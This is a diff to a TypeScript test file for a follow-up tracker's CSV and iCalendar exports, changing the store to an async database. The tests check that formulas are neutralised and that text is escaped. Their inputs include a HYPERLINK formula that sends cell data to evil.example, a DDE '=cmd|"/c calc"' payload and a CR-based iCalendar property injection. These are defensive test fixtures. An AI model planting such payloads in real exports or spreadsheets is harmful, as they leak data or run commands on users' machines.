@@ -12,9 +12,9 @@ import { ifMatch, PROBLEM_JSON, validFollowUp, walkPages } from './fixtures';
 
 type Download = { status: number; headers: Headers; bytes: Uint8Array; text: string };
 
-/** Fetches through a second API over the same store: `TestApi.request` parses every body as JSON. */
+/** Fetches through a second API over the same database: `TestApi.request` parses every body as JSON. */
 async function download(api: TestApi, path: string): Promise<Download> {
-  const app = createApi({ store: api.store, now: () => NOW });
+  const app = createApi({ database: api.database, now: () => NOW });
   const response = await app.fetch(new Request(`http://mitra.test/api${path}`));
   const bytes = new Uint8Array(await response.arrayBuffer());
   // ignoreBOM keeps the byte order mark in the text, so the tests can see it.
@@ -152,7 +152,7 @@ const FILTERS = [
 // ---------------------------------------------------------------------------------------------
 
 describe('neutralizeCsvCell', () => {
-  it('prefixes a single quote to a cell that starts like a formula', () => {
+  it('prefixes a single quote to a cell that starts like a formula', async () => {
     expect(neutralizeCsvCell('=1+2')).toBe("'=1+2");
     expect(neutralizeCsvCell('=HYPERLINK("http://evil.example","klik")')).toBe(
       '\'=HYPERLINK("http://evil.example","klik")',
@@ -166,7 +166,7 @@ describe('neutralizeCsvCell', () => {
     expect(neutralizeCsvCell('=')).toBe("'=");
   });
 
-  it('leaves every other cell as it is, hyphens and = in the middle included', () => {
+  it('leaves every other cell as it is, hyphens and = in the middle included', async () => {
     for (const value of [
       'tindak-lanjut',
       'Rapat tindak-lanjut forum',
@@ -187,7 +187,7 @@ describe('neutralizeCsvCell', () => {
 });
 
 describe('toCsv', () => {
-  it('writes RFC 4180: BOM, CRLF, quotes only where needed and doubled inside', () => {
+  it('writes RFC 4180: BOM, CRLF, quotes only where needed and doubled inside', async () => {
     expect(
       toCsv(
         ['Judul', 'Catatan'],
@@ -206,12 +206,12 @@ describe('toCsv', () => {
 });
 
 describe('homeDate and icsText', () => {
-  it('dates a timestamp in Asia/Jakarta', () => {
+  it('dates a timestamp in Asia/Jakarta', async () => {
     expect(homeDate('2025-10-31T17:30:00.000Z')).toBe('2025-11-01');
     expect(homeDate('2025-10-31T16:59:59.999Z')).toBe('2025-10-31');
   });
 
-  it('turns CR and CRLF into LF and drops control characters but tab', () => {
+  it('turns CR and CRLF into LF and drops control characters but tab', async () => {
     expect(icsText('a\rb\r\nc\nd')).toBe('a\nb\nc\nd');
     expect(icsText('a\u0000b\u0007c\td\u007f')).toBe('abc\td');
   });
@@ -219,7 +219,7 @@ describe('homeDate and icsText', () => {
 
 describe('GET /api/follow-ups/export.csv', () => {
   it('is a UTF-8 CSV download with a BOM, CRLF line ends and a dated file name', async () => {
-    const api = testApi();
+    const api = await testApi();
     const { header, rows, raw } = await csv(api);
     expect(raw.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(raw.headers.get('content-disposition')).toBe(
@@ -234,7 +234,7 @@ describe('GET /api/follow-ups/export.csv', () => {
   });
 
   it('has the rows the list endpoint finds for the same filters, in the same order', async () => {
-    const api = testApi();
+    const api = await testApi();
     await create(api, { title: 'Tanpa tenggat', status: 'done', dueDate: undefined });
     for (const query of FILTERS) {
       const { rows } = await csv(api, query);
@@ -256,7 +256,7 @@ describe('GET /api/follow-ups/export.csv', () => {
       meetings: 200,
       partnerships: 20,
     });
-    const api = testApi(snapshot);
+    const api = await testApi(snapshot);
     for (const query of ['', '?sort=-priority', '?due=overdue&sort=status']) {
       const { rows } = await csv(api, query);
       expect(
@@ -266,10 +266,11 @@ describe('GET /api/follow-ups/export.csv', () => {
     }
     expect((await csv(api)).rows).toHaveLength(snapshot.followUps.length);
     expect(snapshot.followUps.length).toBeGreaterThan(2_500);
-  });
+    // A database of 2,500 follow-ups written for this test (about 2 s here), then seven walks.
+  }, 30_000);
 
   it('writes Indonesian headers and words by default and English on request', async () => {
-    const api = testApi();
+    const api = await testApi();
     const id = await csv(api);
     const en = await csv(api, '?lang=en');
     expect(id.header).toEqual([
@@ -341,7 +342,7 @@ describe('GET /api/follow-ups/export.csv', () => {
   });
 
   it("leaves an undated item's due date empty and counts every meeting that discussed it", async () => {
-    const api = testApi();
+    const api = await testApi();
     const undated = await create(api, {
       title: 'Tanpa tenggat',
       status: 'cancelled',
@@ -353,7 +354,7 @@ describe('GET /api/follow-ups/export.csv', () => {
   });
 
   it('neutralises formulas in every column (=, +, -, @, tab, CR) but not a hyphen inside a word', async () => {
-    const api = testApi();
+    const api = await testApi();
     const titles = [
       '=HYPERLINK("http://evil.example/?"&A1,"klik")',
       '+62 812 0000',
@@ -365,10 +366,10 @@ describe('GET /api/follow-ups/export.csv', () => {
     for (const title of titles) created.push(await create(api, { title }));
     // Titles are trimmed on input, so a leading tab or CR can only come from elsewhere (an import).
     const tab = created[4]!;
-    api.store.followUps.replace({ ...tab, id: tab.id, title: '\t=1+1' });
-    api.store.followUps.insert({ ...tab, id: 'fu-cr', title: '\r=1+1' });
-    const owner = api.store.users.get(IDS.officer2)!;
-    api.store.users.replace({ ...owner, name: '=cmd|"/c calc"!A1' });
+    (await api.store.followUps.replace({ ...tab, id: tab.id, title: '\t=1+1' }));
+    (await api.store.followUps.insert({ ...tab, id: 'fu-cr', title: '\r=1+1' }));
+    const owner = (await api.store.users.get(IDS.officer2))!;
+    (await api.store.users.replace({ ...owner, name: '=cmd|"/c calc"!A1' }));
     await create(api, { title: 'Judul biasa dengan tanda-hubung' });
 
     const { rows, raw } = await csv(api, '?q=');
@@ -394,7 +395,7 @@ describe('GET /api/follow-ups/export.csv', () => {
   });
 
   it('quotes commas, quotes and newlines so the text round-trips', async () => {
-    const api = testApi();
+    const api = await testApi();
     const title = 'Forum; teknis, "Binzhou"\nbaris dua';
     const item = await create(api, { title });
     const { rows, raw } = await csv(api, `?id=${item.id}`);
@@ -403,14 +404,14 @@ describe('GET /api/follow-ups/export.csv', () => {
   });
 
   it('with no match, is the header row alone', async () => {
-    const api = testApi();
+    const api = await testApi();
     const { rows, raw } = await csv(api, '?q=tidak-ada-yang-cocok');
     expect(rows).toEqual([]);
     expect(raw.text.split('\r\n')).toHaveLength(2);
   });
 
   it('refuses paging and unknown or bad parameters like the list does', async () => {
-    const api = testApi();
+    const api = await testApi();
     for (const [query, path, code] of [
       ['?limit=10', 'limit', 'unknownField'],
       ['?cursor=bzEwMA', 'cursor', 'unknownField'],
@@ -432,7 +433,7 @@ describe('GET /api/follow-ups/export.csv', () => {
 
 describe('GET /api/follow-ups/export.ics', () => {
   it('is an iCalendar download with a dated file name', async () => {
-    const api = testApi();
+    const api = await testApi();
     const { calendar, raw } = await ics(api);
     expect(raw.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
     expect(raw.headers.get('content-disposition')).toBe(
@@ -445,15 +446,14 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('has one event per item with a due date, for the same filters and order as the list', async () => {
-    const api = testApi();
+    const api = await testApi();
     await create(api, { title: 'Tanpa tenggat', status: 'done', dueDate: undefined });
     const dated = new Set(
-      api.store.followUps
-        .all()
+      (await api.store.followUps.all())
         .filter((f) => f.dueDate !== undefined)
         .map((f) => f.id),
     );
-    expect(dated.size).toBe(api.store.followUps.count() - 1);
+    expect(dated.size).toBe((await api.store.followUps.count()) - 1);
     for (const query of FILTERS) {
       const { events } = await ics(api, query);
       const expected = (await listIds(api, query)).filter((id) => dated.has(id));
@@ -466,7 +466,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('gives each item a stable UID: the same calendar twice, a new SEQUENCE after a change', async () => {
-    const api = testApi();
+    const api = await testApi();
     const first = await ics(api);
     const second = await ics(api);
     expect(second.raw.text).toBe(first.raw.text);
@@ -486,7 +486,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('makes all-day events: DTSTART;VALUE=DATE is the due date, DTEND the day after', async () => {
-    const api = testApi();
+    const api = await testApi();
     const endOfMonth = await create(api, { title: 'Akhir bulan', dueDate: '2025-11-30' });
     const endOfYear = await create(api, { title: 'Akhir tahun', dueDate: '2025-12-31' });
     const leap = await create(api, { title: 'Kabisat', dueDate: '2028-02-28' });
@@ -507,7 +507,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('escapes text (\\ ; , newlines) and the title round-trips', async () => {
-    const api = testApi();
+    const api = await testApi();
     const tricky = 'Forum; teknis, "Binzhou"\nbaris dua';
     const slashes = 'Arsip C:\\rapat\\2025; versi 2, final';
     const a = await create(api, { title: tricky });
@@ -521,7 +521,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('cannot be fed extra properties through a bare CR in a title', async () => {
-    const api = testApi();
+    const api = await testApi();
     const item = await create(api, { title: 'Baris satu\rDTSTART:20000101\rUID:evil' });
     const { events } = await ics(api, `?id=${item.id}`);
     expect(events).toHaveLength(1);
@@ -531,7 +531,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('describes status, owner and partnership in the language asked', async () => {
-    const api = testApi();
+    const api = await testApi();
     const forum = (e: IcsEvent) => e.get('UID') === 'fu-binzhou-forum@mitra';
     const id = (await ics(api)).events.find(forum)!;
     const en = (await ics(api, '?lang=en')).events.find(forum)!;
@@ -547,7 +547,7 @@ describe('GET /api/follow-ups/export.ics', () => {
   });
 
   it('folds long lines at 75 characters', async () => {
-    const api = testApi();
+    const api = await testApi();
     const item = await create(api, {
       title: `Forum teknis ${'滨州市 Binzhou, '.repeat(12)}`.trim(),
     });
